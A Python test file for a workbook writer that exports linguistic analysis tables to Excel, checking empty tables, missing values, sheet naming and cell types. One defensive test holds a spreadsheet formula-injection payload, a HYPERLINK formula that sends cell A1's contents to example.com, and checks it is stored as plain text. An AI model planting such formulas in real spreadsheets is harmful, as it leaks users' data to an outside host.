"""The workbook writer on awkward tables: empty, missing values of every kind, lists."""

import openpyxl
import numpy as np
import pandas as pd

from analysis.outputs.workbook import describe_column, write_workbook


def test_empty_tables_missing_values_and_lists_are_written(tmp_path):
    tables = {
        "keyness": pd.DataFrame(columns=["feature", "G2", "p_adj"]),  # no row at all
        "tfidf_top_terms_by_year": pd.DataFrame({"group_by": ["year", "year"],
                                                 "group": pd.array([pd.NA, 2020], dtype="Int64"),
                                                 "term": [None, "nước_thải"], "tfidf": [float("nan"), 0.123456789],
                                                 "count": [1, 2]}),
        "topic_segments": pd.DataFrame({"unit_id": ["a#1"], "orders": [[1, 2]], "date": [""]}),
    }
    path = write_workbook(tables, tmp_path / "tables.xlsx", "vi")
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["giới thiệu", "keyness", "tfidf_top_terms_by_year", "topic_segments"]
    sheet = workbook["tfidf_top_terms_by_year"]
    assert [c.value for c in sheet[1]] == ["gộp theo", "nhóm", "từ", "TF-IDF", "số lần"]
    assert sheet.cell(3, 4).value == 0.1235 and sheet.cell(2, 3).value is None
    assert workbook["topic_segments"].cell(2, 2).value == "[1, 2]"


def test_every_column_pattern_has_a_meaning():
    assert describe_column("province_source", "en")[1] == "how province was found"
    assert describe_column("doc_a", "en")[0] == "first plan"
    assert describe_column("topic_3", "vi")[1] == "trọng số của chủ đề ẩn 3 trong đoạn văn"
    assert describe_column("no_such_column", "en") == ("no_such_column", "")


def test_long_table_names_get_unique_sheet_names_cut_at_words(tmp_path):
    """Two names alike in their first 31 characters ("topic_prevalence_by_province_20"): Excel's limit."""
    names = ["topic_prevalence_by_province_2025", "topic_prevalence_by_province_2020", "topic_prevalence_by_province"]
    path = write_workbook({name: pd.DataFrame({"topic": [1]}) for name in names}, tmp_path / "tables.xlsx", "en")
    workbook = openpyxl.load_workbook(path)
    sheets = workbook.sheetnames[1:]
    assert len(set(sheets)) == 3 and all(len(sheet) <= 31 for sheet in sheets)
    assert sheets[2] == "topic_prevalence_by_province"  # short enough: as it is
    for name, sheet in zip(names, sheets):
        # Every word kept whole, or shortened to its beginning with a full stop: none cut off unmarked.
        for word, kept in zip(name.split("_"), sheet.split("_")):
            assert kept == word or (kept.endswith(".") and word.startswith(kept[:-1])), (name, sheet)
        assert sheet.endswith(name[-4:])  # the years that tell the first two apart are still there
    # The "about" sheet gives each shortened sheet its full table name.
    about = [[cell.value for cell in row] for row in workbook["about"].iter_rows()]
    assert [row[2] for row in about if row[0] in sheets[:2]] == names[:2]


def test_text_that_looks_like_a_formula_stays_text(tmp_path):
    """Passages from the web are hostile; a sheet cell holds them as text, never as a formula."""
    hostile = ['=HYPERLINK("http://example.com/?q="&A1,"Bấm vào đây")', "=1+1 là hai", "- Quán triệt nghị quyết",
               "+84 123", "@SUM(A1)", "http://example.com"]
    path = write_workbook({"theme_evidence": pd.DataFrame({"passage": hostile, "hits": [-5, 1, 2, 3, 4, 5]})},
                          tmp_path / "tables.xlsx", "en")
    sheet = openpyxl.load_workbook(path)["theme_evidence"]
    cells = [sheet.cell(row, 1) for row in range(2, 2 + len(hostile))]
    assert [c.value for c in cells] == hostile and {c.data_type for c in cells} == {"s"}
    assert sheet.cell(2, 2).value == -5 and sheet.cell(2, 2).data_type == "n"
    assert not any(c.hyperlink for c in cells)


def test_values_of_every_kind_are_cells_of_their_kind(tmp_path):
    """Numbers stay numbers, booleans booleans, dates dates; missing values of any kind and infinities
    are what a reader expects (empty; "inf")."""
    table = pd.DataFrame({"hits": pd.array([3, pd.NA], dtype="Int64"), "G2": [float("inf"), float("nan")],
                          "short": [True, False], "date": ["2020-05-04", ""], "phrase": ["nước thải", None]})
    sheet = openpyxl.load_workbook(write_workbook({"keyness": table}, tmp_path / "tables.xlsx", "en"))["keyness"]
    first, second = [[cell for cell in sheet[row]] for row in (2, 3)]
    assert [c.value for c in first[:3]] == [3, "inf", True] and first[0].data_type == "n"
    assert first[3].value.date().isoformat() == "2020-05-04" and first[3].number_format == "yyyy-mm-dd"
    assert first[4].value == "nước thải"
    assert [c.value for c in second] == [None, None, False, None, None]


def test_each_column_written_in_its_own_way_gives_the_cells_a_row_by_row_writer_gives(tmp_path, monkeypatch):
    """Numbers', booleans' and texts' columns are written column by column without testing each cell's kind:
    the cells are those of writing every value through ``_write_value`` (the general way)."""
    from analysis.outputs import workbook

    table = pd.DataFrame({"n_tokens": np.array([5, -2, 0], dtype="int64"), "rate": [float("-inf"), 1.5, float("nan")],
                          "short": np.array([False, True, True]), "phrase": pd.array(["", "xử lý", None], dtype="str"),
                          "mixed": pd.Series([1, "a", None], dtype=object), "hits": pd.array([1, None, 2], dtype="Int64")})

    def cells(path):
        sheet = openpyxl.load_workbook(path)["keyness"]
        return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]

    fast = cells(write_workbook({"keyness": table}, tmp_path / "fast.xlsx", "en"))

    def one_way(worksheet, frame, headers, formats):
        for index, header in enumerate(headers):
            worksheet.write_string(0, index, str(header))
        for row, values in enumerate(frame.itertuples(index=False), start=1):
            for column, value in enumerate(values):
                workbook._write_value(worksheet, row, column, value, formats)
    monkeypatch.setattr(workbook, "_cells", one_way)
    slow = cells(write_workbook({"keyness": table}, tmp_path / "slow.xlsx", "en"))
    assert fast == slow
    assert fast[1][:4] == [(5, "n"), ("-inf", "s"), (False, "b"), (None, "n")]
